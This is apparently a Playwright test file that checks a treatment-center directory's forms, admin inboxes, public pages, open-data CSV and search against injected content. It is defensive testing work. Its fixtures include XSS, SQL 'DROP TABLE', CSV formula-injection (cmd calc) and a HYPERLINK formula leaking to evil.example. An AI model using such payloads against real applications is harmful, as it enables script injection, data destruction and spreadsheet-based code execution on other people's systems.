import { expect, type Page } from '@playwright/test';
import {
  approvedListing,
  call,
  expectInertPage,
  expectNeutralisedCsv,
  expectNoRawMarkup,
  inParallel,
  publishedCount,
  reportedListingVersion,
  signedIn,
  test,
} from './content-safety';
import { ALL_PAYLOADS, FTS5_PAYLOADS, packed, PHONE_PAYLOADS, records, SHORT_PAYLOADS, SQL_PAYLOADS, typeable, WEBSITE_PAYLOADS, ZIP_PAYLOADS } from './payloads';
import { DEMO, inMain, runScheduledRun } from './support';

// Content safety (issue 15) of what visitors send. A facility page's Request information and Report
// a problem are typed (the get-help page's lead form is the same form); the lead form, the contact
// form and reports also go through the API, with every payload in every text field. The Worker
// stores them as typed; the admin's leads, contact messages and reports and the facility's inquiries
// show them as text with nothing run; a report resolved by correcting the listing puts payloads
// (formulas too) on the public page and, neutralised, in the open-data CSV; the search box and its
// suggestions read them as words. SQL changes nothing: the published count moves only by the
// listing this file approves.

type Lead = { name: string; phone: string; message: string; notes: string };
type Message = { name: string; phone: string; subject: string; message: string; notes: string };

const run = Date.now().toString(36);
const facilityEmail = `safety-visitors-${run}@test.example.org`;
const listingName = `<img src=x onerror=alert(1)> '; DROP TABLE facilities; -- ${run}`;
/** The listing's name as the desk corrects it from a report: a formula first, for the CSV. */
const correctedName = `=HYPERLINK("https://evil.example/?leak","click") <script>alert(1)</script> ${run}`;
/** What the forms are typed with (single lines: a text input drops line breaks). */
const TYPED = typeable(2000)[0]!.slice(0, 1000);

const leads = records({ name: 120, phone: PHONE_PAYLOADS, message: 2000, notes: 5000 }) as Lead[];
const messages = records({ name: 120, phone: PHONE_PAYLOADS, subject: 200, message: 5000, notes: 5000 }) as Message[];
/** The newest records carry the long fields' values (message, notes): they come first in every list. */
const CARRIERS = 3;

/**
 * Sends `items`, the first `CARRIERS` one by one after the rest (in parallel), so that they are the
 * newest; answers the ids in the order of `items`.
 */
async function sendNewestLast<T>(items: readonly T[], send: (item: T) => Promise<number>): Promise<number[]> {
  const older = await inParallel(items.slice(CARRIERS), send);
  const newer: number[] = [];
  for (const item of items.slice(0, CARRIERS).reverse()) newer.unshift(await send(item));
  return [...newer, ...older];
}

/** Opens the record the list's link `name` leads to, checks it shows `shown`, and comes back. */
async function openAndCheck(page: Page, incidents: readonly string[], name: string, shown: readonly string[]) {
  await inMain(page).getByRole('link', { name, exact: true }).first().click();
  await expectInertPage(page, incidents, shown);
  await page.goBack();
}

// In order, on one worker: the tests share the listing made once below, and count on the
// published total taken before it.
test.describe.configure({ mode: 'serial' });

let desk: { page: Page; incidents: string[] };
let facilityId = 0;
let published = 0;

test.beforeAll(async ({ browser }) => {
  desk = await signedIn(browser, 'admin', DEMO.admin.email, DEMO.admin.password);
  published = await publishedCount(desk.page);
  facilityId = await approvedListing(desk.page, facilityEmail, { facilityName: listingName, description: packed(5000)[0]! });
});

test('requests and messages are stored as typed and shown as text in the inboxes and on the dashboard', async ({ page, incidents, browser }) => {
  // Typed once through the facility page's two forms and the contact form.
  await page.goto(`/facility/${facilityId}`);
  await page.getByRole('button', { name: 'Request information' }).click();
  const request = page.getByRole('form', { name: /^Request information from / });
  await request.getByLabel('Full name').fill(`${typeable(110)[0]} ${run}`);
  await request.getByLabel('Phone number').fill(PHONE_PAYLOADS[1]!);
  await request.getByLabel('Message').fill(TYPED);
  await request.getByRole('checkbox', { name: /may contact me/ }).check();
  await request.getByRole('button', { name: 'Send Request' }).click();
  await expect(page.getByText(/can also read your request/)).toBeVisible();
  await page.getByRole('button', { name: 'Report a problem with this listing' }).click();
  const report = page.getByRole('form', { name: 'Report a problem with this listing' });
  await report.getByLabel('What is wrong?').selectOption('other');
  await report.getByLabel('Details').fill(`${TYPED.slice(0, 980)} ${run}`);
  await report.getByRole('button', { name: 'Send Report' }).click();
  await expect(page.getByText(/Thank you for letting us know/)).toBeVisible();
  await expectInertPage(page, incidents, [listingName]);

  // The rest through the API (the lead form's JSON, as the get-help page sends it).
  const leadIds = await sendNewestLast(leads, async ({ notes: _, ...lead }) =>
    (await call<{ id: number }>(page, 'POST', '/api/leads', { ...lead, facilityId, consent: true })).id,
  );
  const messageIds = await sendNewestLast(messages, async ({ notes: _, ...message }) =>
    (await call<{ id: number }>(page, 'POST', '/api/contact', { ...message, urgency: 'low', email: `m-${run}@example.org` })).id,
  );
  const notes = packed(5000);
  await inParallel(notes, (text, i) => call(desk.page, 'PATCH', `/api/admin/leads/${leadIds[i]}`, { notes: text }));
  await inParallel(notes, (text, i) => call(desk.page, 'PATCH', `/api/admin/contact-messages/${messageIds[i]}`, { notes: text }));

  // Stored as typed.
  const storedLeads = await inParallel(leadIds, async (id) => (await call<{ lead: Lead }>(desk.page, 'GET', `/api/admin/leads/${id}`)).lead);
  expect(storedLeads.map(({ name, phone, message }) => ({ name, phone, message }))).toEqual(leads.map(({ notes: _, ...lead }) => lead));
  expect(storedLeads.slice(0, notes.length).map((lead) => lead.notes)).toEqual(notes);
  const storedMessages = await inParallel(messageIds, async (id) =>
    (await call<{ contactMessage: Message }>(desk.page, 'GET', `/api/admin/contact-messages/${id}`)).contactMessage,
  );
  expect(storedMessages.map(({ name, phone, subject, message }) => ({ name, phone, subject, message }))).toEqual(
    messages.map(({ notes: _, ...message }) => message),
  );
  expect(storedMessages.slice(0, notes.length).map((message) => message.notes)).toEqual(notes);

  // The leads inbox: every name; the newest opened with their long fields; notes typed into one.
  const admin = desk.page;
  await admin.goto(`/admin/leads?facilityId=${facilityId}`);
  await expectInertPage(admin, desk.incidents, leads.map((lead) => lead.name));
  for (const lead of leads.slice(1, CARRIERS)) await openAndCheck(admin, desk.incidents, lead.name, [lead.name, lead.phone, lead.message]);
  await inMain(admin).getByRole('link', { name: leads[0]!.name, exact: true }).first().click();
  await expectInertPage(admin, desk.incidents, [leads[0]!.name, leads[0]!.phone, leads[0]!.message, listingName]);
  await expect(admin.getByLabel('Internal notes')).toHaveValue(notes[0]!);
  await admin.getByLabel('Internal notes').fill(TYPED);
  await admin.getByRole('button', { name: 'Save' }).click();
  await expect(admin.getByRole('status').filter({ hasText: 'Lead updated.' })).toBeVisible();

  // The contact messages (this test's are the only "low" ones of the run).
  await admin.goto('/admin/messages?urgency=low');
  await expectInertPage(admin, desk.incidents, messages.map((message) => message.name));
  for (const message of messages.slice(0, notes.length)) {
    await openAndCheck(admin, desk.incidents, message.name, [message.name, message.phone, message.subject, message.message]);
  }

  // The facility's own inquiries: every name; the newest opened.
  const facility = await signedIn(browser, 'facility', facilityEmail);
  await facility.page.goto('/facility-dashboard/inquiries');
  await expectInertPage(facility.page, facility.incidents, leads.map((lead) => lead.name));
  await inMain(facility.page).getByRole('link', { name: leads[0]!.name, exact: true }).click();
  await expectInertPage(facility.page, facility.incidents, [leads[0]!.name, leads[0]!.message]);

  // The outbox holds the facility's inquiry notices, naming the listing as typed (the outbox page
  // itself is checked in content-safety-listing).
  const outbox = await call<{ items: { id: number; subject: string }[] }>(admin, 'GET', `/api/admin/outbox?q=${encodeURIComponent(facilityEmail)}&limit=100`);
  expect(outbox.items.filter((email) => email.subject === `New inquiry for ${listingName}`)).toHaveLength(leads.length + 1);

  // SQL in any of them changed nothing: only the listing this file approved was added.
  expect(await publishedCount(desk.page)).toBe(published + 1);
  expect(SQL_PAYLOADS.every((sql) => [...leads, ...messages].some((record) => record.message.includes(sql)))).toBe(true);
});

test('reports are shown as text, and a correction puts payloads on the public page and neutralised in the open-data CSV', async ({ page, incidents }) => {
  // A thousand reports, corrections, and the scheduled run writing the open-data files again (about 20 s for 5,200 listings).
  test.setTimeout(120_000);
  const details = packed(1000);
  await inParallel(details, (text) => call(page, 'POST', `/api/facility/public/${facilityId}/reports`, { reason: 'wrong_details', details: text }));
  const open = await call<{ items: { id: number; details: string; listing: { id: number } }[] }>(desk.page, 'GET', '/api/admin/listing-reports?status=open&limit=100');
  const mine = open.items.filter((item) => item.listing.id === facilityId);
  expect(mine.map((item) => item.details).sort()).toEqual([...details, `${TYPED.slice(0, 980)} ${run}`].sort());

  // Corrections through the API, each with other payloads, the rest resolved with notes.
  const corrections = records({ name: 200, address: 200, city: 100, zip: ZIP_PAYLOADS, phone: PHONE_PAYLOADS, website: WEBSITE_PAYLOADS, description: 5000 }).slice(0, 3);
  const [typedReport, ...others] = mine.sort((a, b) => (a.details.endsWith(run) ? -1 : b.details.endsWith(run) ? 1 : 0));
  const notes = packed(5000);
  // Each correction changes the listing, so each names the version the one before left; the rest,
  // changing nothing, all name the last.
  const resolve = async (id: number, body: Record<string, unknown>) =>
    call(desk.page, 'PATCH', `/api/admin/listing-reports/${id}`, { ...body, version: await reportedListingVersion(desk.page, facilityId) });
  for (const [i, report] of others.slice(0, corrections.length).entries()) {
    await resolve(report.id, { resolution: 'edited', notes: notes[i % notes.length], listing: { ...corrections[i], state: 'WY', email: '' } });
  }
  await inParallel(others.slice(corrections.length), (report, i) =>
    resolve(report.id, { resolution: 'no_change', notes: notes[(i + corrections.length) % notes.length] }),
  );

  // The open report, on the desk, corrected by hand: formulas first in the fields the CSV carries.
  const admin = desk.page;
  await admin.goto('/admin/reports?status=open');
  const card = inMain(admin).getByRole('listitem').filter({ has: admin.getByRole('form', { name: `Resolve report ${typedReport!.id}` }) });
  await expectInertPage(admin, desk.incidents, [typedReport!.details]);
  const typedListing: Record<string, string> = {
    'Facility name': correctedName,
    Address: `+1+cmd|' /C calc'!A0 ${SHORT_PAYLOADS[1]}`,
    City: `-2+3+cmd|' /C calc'!A0`,
    Website: WEBSITE_PAYLOADS[2]!,
    Description: `@SUM(1+1)*cmd|' /C calc'!A0 ${TYPED}`,
  };
  await card.getByRole('radio', { name: 'Correct the listing' }).check();
  for (const [label, value] of Object.entries(typedListing)) await card.getByLabel(label, { exact: true }).fill(value);
  await card.getByLabel('Notes').fill(TYPED);
  await card.getByRole('button', { name: 'Resolve Report' }).click();
  await expect(inMain(admin).getByRole('form', { name: `Resolve report ${typedReport!.id}` })).toHaveCount(0);
  await inMain(admin).getByRole('search', { name: 'Filter reports' }).getByLabel('Status').selectOption('resolved');
  await inMain(admin).getByRole('search', { name: 'Filter reports' }).getByRole('button', { name: 'Apply' }).click();
  await expect(admin).toHaveURL(/status=resolved/);
  await expectInertPage(admin, desk.incidents, [...others.map((report) => report.details), TYPED, ...notes]);

  // The public page shows the correction as text; the CSV download neutralises its formulas.
  await page.goto(`/facility/${facilityId}`);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(typedListing['Facility name']!);
  await expectInertPage(page, incidents, [typedListing.Address!, typedListing.City!, typedListing.Description!]);
  // The CSV is a file the scheduled run writes after the data changes: run it, as the cron would.
  await runScheduledRun(page.request);
  const csv = await (await page.request.get('/api/open-data/facilities.csv')).text();
  const row = expectNeutralisedCsv(csv).find((cells) => cells[0] === String(facilityId));
  expect(row).toBeDefined();
  const unescaped = row!.map((cell) => cell.replace(/^'(?=[=+\-@\t\r])/, ''));
  for (const value of [typedListing['Facility name'], typedListing.Address, typedListing.City, typedListing.Description]) expect(unescaped).toContain(value);
});

test('the search box: results and suggestions show what was typed as text, read FTS5 and SQL as words, and change nothing', async ({ page, incidents }) => {
  const before = await publishedCount(page);
  // Every payload through the search and the suggestions: an answer, never an error.
  await inParallel(packed(200, ALL_PAYLOADS), (q) => call(page, 'GET', `/api/facility/public/search?q=${encodeURIComponent(q)}`));
  await inParallel(packed(100), (q) => call(page, 'GET', `/api/search/suggest?q=${encodeURIComponent(q)}`));

  // A search page as the Worker renders it for a query of payloads, then typed into its box.
  const query = `${FTS5_PAYLOADS.join(' ')} ${SHORT_PAYLOADS.slice(0, 3).join(' ')}`.slice(0, 200);
  expectNoRawMarkup(await (await page.request.get(`/search?q=${encodeURIComponent(query)}`)).text());
  await page.goto('/search');
  const box = page.getByRole('combobox', { name: 'Search treatment centers' });
  await box.fill(typeable(200)[0]!);
  await box.press('Enter');
  await expect(page).toHaveURL(/\/search\?q=/);
  await expect(box).toHaveValue(typeable(200)[0]!);
  await expectInertPage(page, incidents);

  // This file's listing, whose name is a payload, suggested by a word of it (a name's first eight
  // words are keys), as text; the index takes the correction within seconds.
  await expect(async () => {
    await box.fill('');
    await box.fill('hyperlink');
    await expect(page.getByRole('listbox', { name: 'Suggestions' }).getByRole('option', { name: new RegExp(run) })).toBeVisible({ timeout: 2_000 });
  }).toPass({ timeout: 30_000 });
  await expectInertPage(page, incidents, [correctedName]);
  await box.press('Escape');
  expect(await publishedCount(page)).toBe(before);
});
